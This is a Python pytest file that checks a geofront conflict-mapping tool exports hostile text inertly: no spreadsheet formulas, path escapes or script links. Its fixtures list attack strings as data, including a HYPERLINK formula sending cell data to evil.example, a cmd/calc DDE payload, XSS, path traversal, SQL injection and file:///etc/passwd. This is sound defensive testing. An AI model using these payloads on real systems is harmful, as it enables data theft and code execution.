"""What a map of hostile texts may be: files that nothing runs, in places that no name decides."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from typing import TYPE_CHECKING

import pytest
import tomli_w
from hypothesis import given
from hypothesis import strategies as st
from worlds import write_world

from geofront.cli.output import echo_csv
from geofront.control.draw import draw
from geofront.datasets import read
from geofront.events.writer import write_timeline
from geofront.files.delimited import csv_bytes, guarded, read_delimited
from geofront.render.formats import FORMATS, write
from geofront.render.gis.frames import interval_frame
from geofront.render.shown import is_web_address

if TYPE_CHECKING:
    from pathlib import Path

    from geofront.control.series import Series

_RUN = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]*)?([eE][+-]?[0-9]+)?\Z")
FORMULAS = (
    *('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"),
    *("＝1", "- quoted", "'=1", "''=1", "'", "'plain", "-", "+963 11 222", '="a,b"', "=1;2"),
)
_NASTY = (
    *FORMULAS,
    *("../../../../etc/escaped", "/etc/escaped", "..\\..\\escaped", "a/b", "nul", "CON", "~"),
    *("</script><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]>&amp;<!--"),
    *("javascript:alert(1)", "\x01\x0b\x1f\x7f\x85\ufffe\ufdd0x", "x" * 3000, "é" * 300),
    *("\u202eabc\u2066", "a\nb\r\nc", "%n%s{0}${x}", '"; DROP TABLE places; --', "$\\frac{1}{0}$"),
)
_ADDRESSES = (
    *("javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", " JaVaScRiPt:x"),
    *("vbscript:x", "mailto:a@b.example", "//evil.example", "http://ok.example/<x>\"'&"),
)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A conflict whose every text is hostile."""
    home = tmp_path_factory.mktemp("nasty") / "in"
    names = [name.replace("|", "/") for name in _NASTY]
    actors = [f"{i}{name[:20]}" for i, name in enumerate(names[:12])]
    events = csv_bytes(
        ("id", "date", "place", "kind", "actor", "source", "note", "own"),
        [
            (
                f"e{i}{n[:9]}",
                f"2020-01-0{1 + i % 3}",
                f"p{i}",
                "capture",
                actors[i % 12],
                f"s{i}",
                n,
                n,
            )
            for i, n in enumerate(names)
        ],
    )
    places = csv_bytes(
        ("id", "name", "lon", "lat"),
        [(f"p{i}", n, f"{37 + i % 6 / 3}", f"{34 + i // 6 / 3}") for i, n in enumerate(_NASTY)],
    )
    write_world(home, events=events.decode(), places=places.decode())
    for name, columns, rows in (
        (
            "actors",
            ("id", "name", "side"),
            [
                (a, f"{n} {a}", f"side {i % 3}")
                for i, (a, n) in enumerate(zip(actors, names, strict=False))
            ],
        ),
        (
            "sources",
            ("id", "title", "publisher", "url"),
            [(f"s{i}", n, n, _ADDRESSES[i % len(_ADDRESSES)]) for i, n in enumerate(names)],
        ),
    ):
        (home / f"{name}.csv").write_bytes(csv_bytes(columns, rows))
    about = {"title": "</title><script>alert(1)</script> ../../x", "attribution": _NASTY[-10]}
    (home / "conflict.toml").write_text(tomli_w.dumps(about), encoding="utf-8")
    return home


@pytest.fixture(scope="module")
def series(folder: Path) -> Series:
    return draw(read(folder))


# --- formulas ---------------------------------------------------------------------------------


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for more than a text or a number."""
    return bool(_RUN.match(cell)) and not _NUMBER.match(cell)


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=12)))
def test_no_cell_of_csv_is_a_formula_and_reading_gives_back_the_very_text(texts: list[str]) -> None:
    texts = [t for t in (*texts, *FORMULAS) if t.strip()]
    data = csv_bytes(("id", "text"), [(str(i), t) for i, t in enumerate(texts)])
    cells = [row[1] for row in csv.reader(io.StringIO(data.decode(), newline=""))][1:]
    assert not any(map(runs, cells))
    rows = read_delimited("t.csv", data).rows
    assert [row.cells["text"] for row in rows] == texts


@given(st.text("'=+-@ \t\r\n＝1a", max_size=6))
def test_a_guard_is_one_apostrophe_or_none(text: str) -> None:
    assert guarded(text) in {text, f"'{text}"}
    assert not runs(guarded(text))


@pytest.mark.parametrize("number", ["-3.5", "+4", "-1e-05", "0", "12.", "-180"])
def test_numbers_stay_numbers(number: str) -> None:
    assert guarded(number) == number


def test_commands_print_no_formula(capsys: pytest.CaptureFixture[str]) -> None:
    records = [{"a": text, "b": -3.5, "c": None, "d": True} for text in FORMULAS]
    echo_csv(("a", "b", "c", "d"), records)
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[0] == ["a", "b", "c", "d"]
    assert [row[0] for row in rows[1:]] == [guarded(text) for text in FORMULAS]
    assert {tuple(row[1:]) for row in rows[1:]} == {("-3.5", "", "True")}


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_conflict_of_formulas_is_written_inert_and_read_back(
    form: str, folder: Path, tmp_path: Path
) -> None:
    if form == "xlsx":
        openpyxl = pytest.importorskip("openpyxl")
    timeline = read(folder)
    written = write_timeline(timeline, tmp_path / "out", form)
    again = read(tmp_path / "out")
    told = [(e.id, e.note, dict(e.extra)) for e in again.events]
    assert told == [(e.id, e.note, dict(e.extra)) for e in timeline.events]
    assert {p.id: p.name for p in again.places.values()} == {
        p.id: p.name for p in timeline.places.values()
    }
    for path in written:
        if path.suffix == ".csv":
            with path.open(newline="", encoding="utf-8") as stream:
                assert not any(runs(cell) for row in csv.reader(stream) for cell in row)
        if path.suffix == ".xlsx":
            book = openpyxl.load_workbook(path)
            cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value]
            assert {c.data_type for c in cells} <= {"s", "n"}
            assert not any(c.hyperlink for c in cells)


# --- files and links --------------------------------------------------------------------------

_LINK = re.compile(
    rb"""(?i)(?:href|src|action|url)\s*[=(]\s*["']?\s*(?:javascript|vbscript|file|data:text)[:/,]"""
)


@pytest.mark.filterwarnings("ignore:Glyph:UserWarning")
@pytest.mark.parametrize(
    "name", [n for n in FORMATS if n not in {"gif", "mp4", "png", "multiples"}]
)
def test_names_decide_no_path_and_texts_are_no_markup(
    name: str, series: Series, tmp_path: Path
) -> None:
    form = FORMATS[name]
    if form.missing:
        pytest.skip(form.missing)
    out = tmp_path / "deep" / "deeper" / "out"
    written = write(series, out, name)
    files = {path for path in tmp_path.rglob("*") if path.is_file()}
    assert files == set(written) or files >= set(written)
    assert all(path.parent == out for path in files)
    assert all(re.fullmatch(r"[A-Za-z0-9._-]+", path.name) for path in files)
    for path in files:
        data = path.read_bytes()
        assert not _LINK.search(data), path.name
        if path.suffix in {".kml", ".svg", ".qml"}:
            ET.fromstring(data)  # noqa: S314 - written here
        if path.suffix in {".json", ".geojson", ".topojson"}:
            json.loads(data)
        if path.suffix == ".pdf":
            assert b"/URI" not in data
            assert b"/JavaScript" not in data


def test_addresses_in_layers_are_of_the_web(series: Series) -> None:
    told = interval_frame(series, "events")["source_url"].dropna()
    found = [url for cell in told for url in cell.split("|")]
    assert found
    assert all(map(is_web_address, found))
